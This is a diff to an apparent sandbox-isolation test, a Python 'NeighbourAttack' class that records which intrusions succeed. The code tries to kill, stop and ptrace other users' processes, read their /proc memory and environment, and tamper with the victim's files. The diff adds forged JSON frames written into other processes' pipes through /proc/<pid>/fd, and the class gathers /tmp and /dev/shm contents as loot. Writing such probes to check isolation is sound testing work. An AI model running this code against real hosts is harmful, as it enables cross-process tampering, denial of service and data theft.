@@ -2,8 +2,8 @@
 victim is (its pid, working directory, /tmp file and SysV segment, as a program could find by scanning /proc and
 /tmp), it tries to stop, kill or ptrace every process of another uid (the victim's, the spare's, the zygote's),
 to read their /proc files (memory, environment, fds, cwd), to read, write, replace or delete the victim's files,
-to attach every SysV segment it can see, to reach the zygote's channels through /proc/<pid>/fd, to write forged
-frames on every fd it holds, and to read everything it can under /tmp and /dev/shm (the loot). `got`: what
+to attach every SysV segment it can see, to write forged frames into the zygote's channels (and any other
+process's pipes) through /proc/<pid>/fd, and to read everything it can under /tmp and /dev/shm (the loot). `got`: what
 worked; `tried`: every attempt and its errno."""
 
 import ctypes
@@ -29,11 +29,8 @@ class NeighbourAttack:
             self.attack_process(pid)
         self.attack_files(v)
         self.attack_shm()
-        forged = (30).to_bytes(4, "big") + b'{"ok":true,"value":"FORGED!!"}'
-        for fd in range(3, 256):
-            self.attempt(f"forge on fd {fd}", lambda fd=fd: os.write(fd, forged), quiet=True)
         loot = _loot(["/tmp", "/dev/shm"])
-        info = {"got": self.got, "tried": self.tried, "loot": loot, "targets": others}
+        info = {"got": self.got, "tried": self.tried, "loot": loot, "targets": others, "init_group": _group(1)}
         return "done", 0.0, True, False, info
 
     def attempt(self, name, fn, quiet=False):
@@ -52,10 +49,22 @@ class NeighbourAttack:
     def attack_process(self, pid):
         for sig in (0, signal.SIGSTOP, signal.SIGKILL):
             self.attempt(f"kill({pid}, {int(sig)})", lambda sig=sig: os.kill(pid, sig))
-        self.attempt(f"killpg({pid})", lambda: os.killpg(os.getpgid(pid), signal.SIGKILL))
+        try:
+            group = os.getpgid(pid)
+        except OSError:
+            group = pid
+        self.attempt(f"killpg({group})", lambda: os.killpg(group, signal.SIGKILL))
         for name in PROC_FILES:
             path = f"/proc/{pid}/{name}"
             self.attempt(f"read {path}", lambda path=path: _read(path))
+        forged = (30).to_bytes(4, "big") + b'{"ok":true,"value":"FORGED!!"}'
+        for fd in range(12):  # another process's pipes (the zygote's: every session's channel) reopened by path
+            path = f"/proc/{pid}/fd/{fd}"
+            try:
+                target = os.readlink(path)
+            except OSError:
+                target = "?"
+            self.attempt(f"forge on {path} ({target})", lambda path=path: _write_bytes(path, forged))
         libc = ctypes.CDLL(None, use_errno=True)
 
         def ptrace():
@@ -111,6 +120,13 @@ def _processes():
     return out
 
 
+def _group(pid):
+    try:
+        return os.getpgid(pid)
+    except OSError:
+        return None
+
+
 def _read(path):
     if os.path.isdir(path):
         return os.listdir(path)
@@ -121,6 +137,14 @@ def _read(path):
 def _write(path, text):
     with open(path, "w") as f:
         f.write(text)
+
+
+def _write_bytes(path, data):
+    fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
+    try:
+        os.write(fd, data)
+    finally:
+        os.close(fd)
 
 
 def _loot(roots):
